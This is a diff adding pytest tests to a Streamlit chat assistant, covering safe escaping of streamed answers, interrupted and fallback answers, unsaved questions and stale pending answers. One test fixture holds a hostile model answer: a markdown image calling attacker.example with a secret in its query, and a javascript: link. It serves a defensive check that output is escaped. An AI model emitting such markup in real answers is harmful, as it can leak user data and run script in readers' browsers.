@@ -17,10 +17,15 @@ import sys
 from pathlib import Path
 
 import pytest
+import streamlit as st
+from helpers_openai_server import Step, chat_server
 from markdown_it import MarkdownIt
+from sqlalchemy import text as sql
+from sqlalchemy import update
 from sqlmodel import Session, select
 from streamlit.testing.v1 import AppTest
 
+from assistant.answerers import generative
 from assistant.answering import AnswerConfig
 from feedback import store
 from feedback.models import Conversation, Message
@@ -107,11 +112,11 @@ class Recording:
         self.break_after = break_after
         self.histories: list[list[tuple[str, str]]] = []
 
-    def ask(self, question, *, history=(), where=None):
+    def ask(self, question, *, history=(), where=None, on_status=None):
         self.histories.append(list(history))
         if self.break_after is not None:
             return Broken(self.break_after)
-        return self.real.ask(question, history=history, where=where)
+        return self.real.ask(question, history=history, where=where, on_status=on_status)
 
 
 class Broken:
@@ -280,7 +285,7 @@ def test_an_answer_cut_off_by_streamlit_is_stored_as_interrupted(data_dir, db, m
         def __init__(self, features=()):
             pass
 
-        def ask(self, question, *, history=(), where=None):
+        def ask(self, question, *, history=(), where=None, on_status=None):
             return iter(["The first words", " and more"])
 
     def write_then_stop(deltas):
@@ -349,3 +354,91 @@ def test_a_rolled_out_feature_changes_the_answer_settings_of_those_who_have_it(d
     answer = messages(db)[-1]
     assert answer.status == "abstained" and answer.features == ["pilot-contact"]
     assert "the pilot team in #pilot-help" in answer.content and "someone else" not in answer.content
+
+
+# --- the reviewed defects: live escaping, unfinished answers, an unsaved question, answers left pending -----------
+
+HOSTILE_ANSWER = "Sure! ![pixel](https://attacker.example/?q=secret) or [click](javascript:alert(1)) <b>x</b> [1]."
+LIVE = {"link_open", "image", "html_inline", "html_block"}
+
+
+def use_chat_server(monkeypatch, server) -> None:
+    for key, value in {"MODE": "llm", "BASE_URL": server.base_url, "TIMEOUT_S": "2", "RETRY_INITIAL_S": "0.01",
+                       "RETRY_MAX_S": "0.02"}.items():
+        monkeypatch.setenv(f"ONBOARD_ANSWER__{key}", value)
+
+
+def test_a_streamed_answer_is_escaped_piece_by_piece_while_it_streams(app, db, monkeypatch):
+    shown: list[str] = []
+    real_write_stream = st.write_stream
+
+    def recording_write_stream(deltas):
+        return real_write_stream(shown.append(delta) or delta for delta in deltas)
+
+    monkeypatch.setattr(st, "write_stream", recording_write_stream)
+    with chat_server(Step(text=HOSTILE_ANSWER)) as server:
+        use_chat_server(monkeypatch, server)
+        ask(app, QUESTION)
+    assert len(shown) > 5 and "".join(shown) == web.safe_markdown(HOSTILE_ANSWER)
+    for end in range(1, len(shown) + 1):  # at no moment of the stream is a link, an image or HTML live
+        assert not {token.type for token in _tokens("".join(shown[:end]))} & LIVE
+    assert messages(db)[-1].content == HOSTILE_ANSWER  # stored as written, escaped when shown
+
+
+@pytest.mark.parametrize(
+    ("step", "status", "answerer", "notice"),
+    [
+        (Step(kind="break", chunks_before_break=3), "interrupted", "llm", generative.INTERRUPTED),
+        (Step(finish_reason="length"), "interrupted", "llm", generative.CUT_SHORT),
+        (Step(kind="status", status=500), "complete", "extractive", generative.UNAVAILABLE),
+    ],
+)
+def test_an_unfinished_or_fallback_answer_is_stored_and_shown_with_its_notice(data_dir, db, monkeypatch, step,
+                                                                              status, answerer, notice):
+    with chat_server(step) as server:
+        use_chat_server(monkeypatch, server)
+        at = ok(AppTest.from_file(APP, default_timeout=120).run())
+        ask(at, QUESTION)
+    answer = messages(db)[-1]
+    assert (answer.status, answer.answerer, answer.error) == (status, answerer, notice)
+    assert answer.content and answer.sources
+
+    reopened = ok(AppTest.from_file(APP, default_timeout=120).run())
+    ok(reopened.sidebar.button(key=f"open-{answer.conversation_id}").click().run())
+    told = [e.value for e in reopened.error] + [unescape(c.value) for c in reopened.caption]
+    assert notice in told
+    assert bool(reopened.feedback) == (status == "complete")  # only a finished answer is rated
+
+
+def test_a_question_that_cannot_be_stored_is_kept_for_sending_again(app, db):
+    db.exec(sql("CREATE TRIGGER refuse BEFORE INSERT ON message BEGIN SELECT RAISE(FAIL, 'database is locked'); END"))
+    db.commit()
+    ask(app, QUESTION)
+    assert [m for m in messages(db) if m.role == "user"] == []
+    assert [e.value for e in app.error] == [web.NOT_SAVED] and "is saved" not in web.NOT_SAVED
+    assert app.text_area(key="draft").value == QUESTION
+
+    db.exec(sql("DROP TRIGGER refuse"))
+    db.commit()
+    ok(app.button(key="send-draft").click().run())
+    question, answer = messages(db)
+    assert question.content == QUESTION and answer.status == "complete"
+    assert "draft" not in app.session_state and not app.error
+
+
+def test_answers_left_pending_by_a_crash_are_closed_when_the_app_starts(data_dir, db):
+    user = local_user(db)
+    conversation = store.create_conversation(session=db, user=user)
+    old, recent = (
+        store.start_answer(session=db, answerer="extractive",
+                           question_id=store.add_user_message(session=db, user=user, conversation_id=conversation.id,
+                                                              content=QUESTION).id)
+        for _ in range(2)
+    )
+    db.exec(update(Message).where(Message.id == old.id).values(created_at=old.created_at - web.STALE_ANSWER_AGE * 2))
+    db.commit()
+
+    ok(AppTest.from_file(APP, default_timeout=120).run())
+    db.expire_all()
+    assert (db.get(Message, old.id).status, db.get(Message, old.id).error) == ("interrupted", web.INTERRUPTED)
+    assert db.get(Message, recent.id).status == "pending"  # it may still be being written
